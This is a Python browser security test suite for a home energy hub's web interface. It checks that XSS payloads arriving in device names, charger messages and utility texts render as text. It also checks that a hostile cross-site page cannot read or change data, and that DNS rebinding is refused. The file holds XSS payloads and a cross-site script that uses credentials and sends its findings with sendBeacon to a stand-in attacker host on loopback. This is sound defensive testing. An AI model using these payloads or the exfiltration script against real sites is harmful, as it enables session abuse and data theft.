"""Attacks in a real browser: what runs in the page, and what pages of others can do to it."""

import asyncio
import json
import shutil
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from typing import Final

import aiohttp
from aiohttp import web
from playwright.async_api import BrowserContext, Page, async_playwright
from pydantic import TypeAdapter

from hems.commands.stage import LOOPBACK
from tests.browser import CHROMIUM_ARGS
from tests.faults.scripted import control
from tests.hems.sep2.kinds_made import message
from tests.hems.sep2.offering import offer_messages
from tests.security.attack import Attack, Entry, Kind, Where
from tests.security.chargers import EndedError, asks, calling
from tests.security.porch import OWNER, SCRIPT, TEMPLATE, Porch
from tests.waiting import until

Do = Callable[[Porch], Awaitable[str]]
_WITHIN_S: Final = 40.0
_LOADED_MS: Final = 20_000
_VIEWS: Final = (
    *("/", "/devices", "/devices/add", "/devices/plug", "/devices/ev", "/car", "/programmes"),
    *("/history", "/bill", "/privacy", "/people", "/settings", "/phone", "/more", "/setup"),
)
_LINK: Final = "javascript:ran()"
_EVIL: Final = "evil.example"
_WATCH: Final = """
window.ran = () => { window.hasRun = true; };
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.violations.push(`${e.violatedDirective} ${e.blockedURI}`);
});
"""
_LOOK: Final = """() => ({
  ran: window.hasRun === true,
  bad: document.querySelectorAll(
    "img[src='x'], [onerror], [onload], a[href^='javascript'], iframe, object, embed").length,
  computed: document.body.innerText.includes("1337"),
  violations: window.violations,
})"""


@dataclass
class Listener:
    """The attacker's own site.

    Attributes:
        port: Where it listens.
        body: What it answers, HTML.
        told: What was asked of it beside that.
    """

    port: int = 0
    body: str = ""
    told: list[str] = field(default_factory=list)

    async def serve(self, request: web.Request) -> web.StreamResponse:
        """Answer."""
        if request.path == "/attack":
            return web.Response(text=self.body, content_type="text/html")
        if request.path != "/favicon.ico":
            self.told.append(f"{request.path_qs} {(await request.read())[:200]!r}")
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})


@asynccontextmanager
async def listener() -> AsyncIterator[Listener]:
    """Run the attacker's site."""
    made = Listener()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", made.serve)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    try:
        await web.TCPSite(runner, LOOPBACK, 0).start()
        made.port = runner.addresses[0][1]
        yield made
    finally:
        await runner.cleanup()


@asynccontextmanager
async def browsing(porch: Porch, *, logged_in: bool = True) -> AsyncIterator[BrowserContext]:
    """Give the owner's browser, in which the page is logged in."""
    chromium = shutil.which("chromium")
    assert chromium is not None, "needs Debian's chromium: apt-get install chromium"
    rules = [f"--host-resolver-rules=MAP {_EVIL} {LOOPBACK}"]
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=chromium, args=[*CHROMIUM_ARGS, *rules]
        )
        context = await browser.new_context(base_url=porch.page.url, locale="en")
        if logged_in:
            name, _, value = (await porch.log_in()).partition("=")
            await context.add_cookies(
                [{"name": name, "value": value, "url": porch.page.url, "sameSite": "Strict"}]
            )
        try:
            yield context
        finally:
            await browser.close()


@dataclass
class Seen:
    """What was seen of the page while its views were visited.

    Attributes:
        text: All that can be read there.
        dialogs: What was asked in windows that came up.
        elsewhere: What was asked of others than the hub.
    """

    text: str = ""
    dialogs: list[str] = field(default_factory=list)
    elsewhere: list[str] = field(default_factory=list)


async def visited(porch: Porch, views: Sequence[str] = _VIEWS) -> Seen:
    """Visit views as the owner; nothing may run that does not belong there."""
    seen = Seen()
    async with browsing(porch) as context:
        await context.add_init_script(_WATCH)
        page = await context.new_page()
        page.on("request", lambda sent: _note(porch, sent.url, seen.elsewhere))
        page.on("dialog", lambda box: seen.dialogs.append(box.message))
        for view in views:
            await page.goto(view, timeout=_LOADED_MS)
            await page.locator("main").first.wait_for(timeout=_LOADED_MS)
            await _settled(page)
            found = TypeAdapter(dict[str, object]).validate_python(await page.evaluate(_LOOK))
            assert not found["ran"], f"{view}: the script has run"
            assert not found["bad"], f"{view}: it became elements of the page"
            assert not found["computed"], f"{view}: it was taken for a template"
            assert not found["violations"], f"{view}: {found['violations']}"
            seen.text += await page.evaluate("document.body.innerText")
    assert not seen.dialogs, f"windows came up: {seen.dialogs}"
    assert not seen.elsewhere, f"others were asked: {seen.elsewhere}"
    return seen


async def _settled(page: Page) -> None:
    """Wait until what the view reads has come: its text changes no more."""
    before = ""

    async def text() -> bool:
        nonlocal before
        now = str(await page.evaluate("document.body.innerText.replace(/\\d+/g, '')"))
        same, before = now == before and bool(now.strip()), now
        await asyncio.sleep(0.15)
        return same

    await until(text, bool, _WITHIN_S, f"{page.url} is shown")


def _note(porch: Porch, url: str, into: list[str]) -> None:
    if not url.startswith((porch.page.url, "data:", "blob:")):
        into.append(url)


def shown(arrange: Do, *texts: str, views: Sequence[str] = _VIEWS) -> Do:
    """Have an attacker's text come to the hub, and look at the page."""

    async def attempt(porch: Porch) -> str:
        detail = await arrange(porch)
        seen = await visited(porch, views)
        lost = [text for text in texts if text not in seen.text]
        assert not lost, f"nowhere to be read: {lost}"
        return f"shown as text, and nothing ran; {detail}"

    return attempt


async def named(_porch: Porch) -> str:
    """Nothing more: a device has borne the name since the hub began."""
    return "a device's name"


async def person(porch: Porch) -> str:
    """Have somebody with such a name."""
    order = {"name": SCRIPT, "password": "long enough, and nobody's", "role": "auditor"}
    said = await porch.order("POST", "/api/people", order)
    assert said.startswith(("201 ", "400 ", "409 ")), said
    return said[:3]


async def charger(porch: Porch) -> str:
    """Have a charger say such words of itself, and of what is wrong with it.

    One that called itself otherwise before is turned away as another, until somebody of the home
    has looked at what it calls itself now.
    """
    boot = {"chargePointVendor": "<img src=x>", "chargePointModel": "<svg onload=ran()>"}
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    fault = {"connectorId": 1, "errorCode": "OtherError", "status": "Faulted", "timestamp": now}
    fault |= {"info": SCRIPT + TEMPLATE, "vendorErrorCode": SCRIPT}
    notice = {"type": SCRIPT, "timestamp": now, "techInfo": f'"><a href="{_LINK}">x</a>'}
    try:
        async with calling(porch) as socket:
            await asks(socket, "BootNotification", boot)
    except EndedError:
        order = {"why": "looked at", "accept": True}
        said = await porch.order("POST", "/api/trust/ev/lift", order)
        assert said.startswith("2"), said
    async with calling(porch) as socket:
        await asks(socket, "BootNotification", boot)
        await asks(socket, "StatusNotification", fault, "2")
        await asks(socket, "SecurityEventNotification", notice, "3")
    return "a charger's words"


async def stranger(porch: Porch) -> str:
    """Call in as a charger with such an identity, which is then offered as a new device."""
    try:
        async with calling(porch, SCRIPT):
            return "let in"
    except aiohttp.WSServerHandshakeError as error:
        return f"a stranger's identity ({error.status})"


async def told_message(porch: Porch) -> str:
    """Have the utility tell people such a text."""
    text = f'{SCRIPT}{TEMPLATE}"><a href="{_LINK}">x</a>'
    offer_messages(porch.utility, message("ABCD01", int(time.time()) - 5, 3600, text=text))

    async def messages() -> str:
        return (await porch.page.get("/api/home")).decode()

    await until(messages, lambda found: "ABCD01" in found.upper(), _WITHIN_S, "the message came")
    return "a message of the utility's"


async def told_event(porch: Porch) -> str:
    """Have the utility describe an event, and its programme, so."""
    described = SCRIPT.replace("<", "&lt;").replace(">", "&gt;")
    event = control("EE01").replace("<description>EE01", f"<description>{described}")
    listed = porch.utility.resources["/derp"]
    (first,) = listed.der_program  # type: ignore[attr-defined] # by path, of any type
    porch.utility.change("/derp", der_program=(replace(first, description=SCRIPT),))
    porch.utility.list_controls(event)

    async def running() -> str:
        return (await porch.page.get("/api/home")).decode()

    await until(running, lambda found: "EE01" in found, _WITHIN_S, "the event came")
    return "an event's and a programme's description"


async def _looks_well(porch: Porch) -> str:
    porch.utility.lies.clear()
    seen = await visited(porch, ("/",))
    return f"the page is shown: {len(seen.text) > 100}"


_ACTS: Final = """
<!doctype html><title>nice</title><form id=f method=post enctype="text/plain"
 action="{hub}/api/logout" target=t><input name='{{"x":"' value='"}}'></form>
<iframe name=t></iframe><iframe id=framed src="{hub}/"></iframe>
<img src="{hub}/api/logout"><script>
const tell = (what) => navigator.sendBeacon("{own}/told", what);
const seen = {{}};
async function tries() {{
  const acts = [["POST", "/api/logout"], ["DELETE", "/api/settings/tariff"], ["GET", "/api/home"],
    ["POST", "/api/people"], ["PUT", "/api/me/password"]];
  for (const [method, path] of acts) {{
    for (const mode of ["cors", "no-cors"]) {{
      try {{
        const got = await fetch("{hub}" + path, {{method, mode, credentials: "include",
          headers: mode === "cors" ? {{"Content-Type": "application/json"}} : {{}},
          body: method === "GET" || method === "DELETE" ? undefined : "{{}}"}});
        if (mode === "cors") tell("read " + path + " " + (await got.text()).slice(0, 80));
      }} catch (e) {{ seen[path] = "refused"; }}
    }}
  }}
  await new Promise((done) => {{
    const line = new EventSource("{hub}/api/stream", {{withCredentials: true}});
    line.onmessage = (e) => {{ tell("stream " + e.data.slice(0, 80)); done(); }};
    line.onerror = () => {{ line.close(); done(); }};
  }});
  await new Promise((done) => {{
    const line = new WebSocket("{hub}/api/stream".replace("http", "ws"));
    line.onopen = () => {{ tell("socket"); done(); }};
    line.onerror = done;
  }});
  const other = window.open("{hub}/");
  await new Promise((done) => setTimeout(done, 500));
  try {{ tell("window " + other.document.title); }} catch (e) {{ seen.window = "refused"; }}
  try {{ const inner = document.getElementById("framed").contentDocument;
    if (inner) tell("frame " + inner.title + inner.body.innerText.slice(0, 50));
  }} catch (e) {{ seen.frame = "refused"; }}
  document.getElementById("f").submit();
  await new Promise((done) => setTimeout(done, 300));
  window.isDone = true;
}}
tries();
</script>
"""


def hostile_page(host: str) -> Do:
    """Have the owner, who is logged in, open a page of somebody else's.

    Args:
        host: Under which name the page is open: of another site, or the hub's own (another port).
    """

    async def attempt(porch: Porch) -> str:
        async with listener() as evil, browsing(porch) as context:
            own = f"http://{host}:{evil.port}"
            evil.body = _ACTS.format(hub=porch.page.url, own=own)
            page = await context.new_page()
            await page.goto(f"{own}/attack", timeout=_LOADED_MS)
            await page.wait_for_function("window.isDone === true", timeout=_LOADED_MS)
            assert not evil.told, f"it was told {evil.told}"
            framed = [frame for frame in page.frames if frame.url.startswith(porch.page.url)]
            assert not framed, f"it holds the page in a frame: {framed}"
            home = await context.new_page()
            answer = await home.goto("/api/me", timeout=_LOADED_MS)
            assert answer is not None
            me = json.loads(await answer.text())
            assert me["name"] == OWNER, f"the owner was logged out: {me}"
        tariff = await porch.order("GET", "/api/settings/tariff")
        assert '"dynamic"' in tariff, tariff
        return "nothing was read and nothing done"

    return attempt


async def rebound(porch: Porch) -> str:
    """Have a page of another name's asked for at the hub's own address (DNS rebinding)."""
    async with browsing(porch, logged_in=False) as context:
        page = await context.new_page()
        port = porch.page.port
        answer = await page.goto(f"http://{_EVIL}:{port}/", timeout=_LOADED_MS)
        assert answer is not None
        statuses = [answer.status]
        for path in ("/api/home", "/api/me", "/api/health"):
            said = await page.evaluate(f"fetch('{path}').then((r) => r.status)")
            statuses.append(int(said))
        assert set(statuses) == {421}, statuses
        return f"421 for {len(statuses)} requests"


async def _still_in(porch: Porch) -> str:
    cookie = await porch.log_in()
    async with porch.page.session.get(
        f"{porch.page.url}/api/me", headers={"Cookie": cookie}
    ) as answer:
        return f"{answer.status} "


_DATA: Final = "it is text like any other"


def _xss(id_: str, does: str, attempt: Do, *, quick: bool = False) -> Attack[Porch]:
    return Attack(
        f"xss-{id_}",
        Kind.WEB,
        does,
        attempt,
        "^shown as text",
        None,
        _looks_well,
        "^the page is shown: True",
        _DATA,
        deep=not quick,
    )


def _hostile(
    id_: str, does: str, attempt: Do, defence: str, *, quick: bool = False
) -> Attack[Porch]:
    return Attack(
        f"browser-{id_}",
        Kind.WEB,
        does,
        attempt,
        defence,
        Entry(Where.SECURITY, "request-refused"),
        _still_in,
        "^200 ",
        deep=not quick,
    )


_TEXTS: Final[Mapping[str, tuple[str, Do]]] = {
    "device": (
        "Has a device that is called a script and a template",
        shown(named, SCRIPT + TEMPLATE),
    ),
    "charger": ("Has a charger say scripts of itself and its faults", shown(charger, SCRIPT)),
    "stranger": ("Calls in as a charger whose identity is a script", shown(stranger)),
    "message": (
        "Has the utility send people a text with a script, a link and a template",
        shown(told_message, SCRIPT + TEMPLATE),
    ),
    "event": (
        "Has the utility describe an event and its programme by a script",
        shown(told_event, SCRIPT),
    ),
}
ROWS: Final[Sequence[Attack[Porch]]] = [
    _xss(
        "person",
        "Is called a script",
        shown(person, SCRIPT, views=("/people",)),
        quick=True,
    ),
    *(_xss(name, does, attempt) for name, (does, attempt) in _TEXTS.items()),
    _hostile(
        "other-site",
        "Has the owner open a page of another site that fetches, posts, frames and listens",
        hostile_page("localhost"),
        "^nothing was read",
    ),
    _hostile(
        "other-port",
        "The same from another port of the hub's machine, with which cookies go along",
        hostile_page(LOOPBACK),
        "^nothing was read",
        quick=True,
    ),
    _hostile(
        "rebinding",
        "Has its own name lead to the hub (DNS rebinding)",
        rebound,
        "^421 ",
        quick=True,
    ),
]
